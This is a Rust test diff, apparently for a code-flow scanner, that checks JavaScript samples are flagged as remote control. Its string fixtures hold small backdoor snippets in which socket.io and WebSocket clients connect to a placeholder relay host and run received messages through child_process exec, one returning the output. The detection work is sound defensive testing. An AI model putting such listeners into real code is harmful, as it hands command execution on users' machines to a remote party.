@@ -528,3 +528,30 @@ fn a_loop_that_xors_runtime_bytes_for_a_checksum_runs_nothing() {
     let found = py(text);
     assert!(found.is_empty(), "{found:?}");
 }
+
+#[test]
+fn a_live_connection_message_parsed_as_json_and_run_is_remote_control() {
+    let kinds = |text: &str| js(text).into_iter().map(|f| f.0).collect::<Vec<_>>();
+    let socket_io = concat!(
+        "const io = require('socket.io-client');\nconst { exec } = require('child_process');\n",
+        "const sock = io('https://relay.example.invalid');\n",
+        "sock.on('cmd', (line) => { exec(line, (e, out) => sock.emit('out', out)); });\n",
+    );
+    assert_eq!(kinds(socket_io), [FlowKind::DownloadToExec]);
+    let ws = concat!(
+        "const WebSocket = require('ws');\nconst cp = require('child_process');\n",
+        "const ws = new WebSocket('wss://relay.example.invalid/c');\n",
+        "ws.on('message', (m) => {\n  const msg = JSON.parse(m);\n  if (msg.t === 'sh') cp.exec(msg.c);\n});\n",
+    );
+    assert_eq!(kinds(ws), [FlowKind::DownloadToExec]);
+    // A fetched JSON document's field is data; so is a message only logged, or a request's response.
+    assert!(kinds(concat!(
+        "const https = require('https');\nconst { execSync } = require('child_process');\n",
+        "const req = https.request('https://api.example.invalid/v');\n",
+        "req.on('response', (res) => { let b = ''; res.on('data', (c) => (b += c));\n",
+        "  res.on('end', () => execSync('npm i tool@' + JSON.parse(b).version)); });\n",
+        "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://x.example.invalid');\n",
+        "ws.on('message', (m) => console.log(JSON.parse(m).text));\n",
+    ))
+    .is_empty());
+}
